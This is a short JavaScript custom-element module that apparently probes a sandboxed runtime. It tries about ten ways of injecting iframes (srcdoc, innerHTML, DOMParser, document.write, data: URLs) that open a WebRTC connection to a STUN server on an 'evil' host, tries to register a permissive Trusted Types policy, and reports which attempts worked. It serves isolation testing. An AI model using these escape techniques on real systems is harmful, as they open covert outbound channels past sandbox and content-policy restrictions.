// It opens frames of its own, where the ways out might be open. `data.evil` is where to.
const tried = {};

function attempt(name, work) {
  try {
    tried[name] = String(work());
  } catch (error) {
    tried[name] = error.name;
  }
}

export default class extends HTMLElement {
  async load({ data: { evil } }) {
    const peer = `new RTCPeerConnection({ iceServers: [{ urls: "stun:${new URL(evil).host}" }] })`;
    const call = `const p = ${peer}; p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
    const inner = `<script>${call}</script>`;
    const frame = () => document.createElement("iframe");
    const add = (one) => this.append(one);
    attempt("property", () => add(Object.assign(frame(), { srcdoc: inner })));
    attempt("attribute", () => {
      const one = frame();
      one.setAttribute("srcdoc", inner);
      add(one);
    });
    attempt("html", () => (this.innerHTML = `<IFRAME srcdoc='${inner}'></IFRAME>`));
    attempt("parsed", () => new DOMParser().parseFromString(`<iframe srcdoc='${inner}'></iframe>`, "text/html").body.firstChild);
    attempt("fragment", () => document.createRange().createContextualFragment(`<iframe srcdoc='${inner}'></iframe>`));
    attempt("written", () => document.write(`<iframe srcdoc='${inner}'></iframe>`));
    attempt("blank", () => {
      const one = frame();
      this.append(one);
      return one.contentWindow.RTCPeerConnection;
    });
    attempt("address", () => add(Object.assign(frame(), { src: `data:text/html,${inner}` })));
    attempt("site", () => add(Object.assign(frame(), { src: `${evil}/frame` })));
    attempt("policy", () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }));
  }
  async playAction() {
    return { statusCode: 200, currentStep: 0, result: tried };
  }
  async stopAction() {}
  async dispose() {}
}
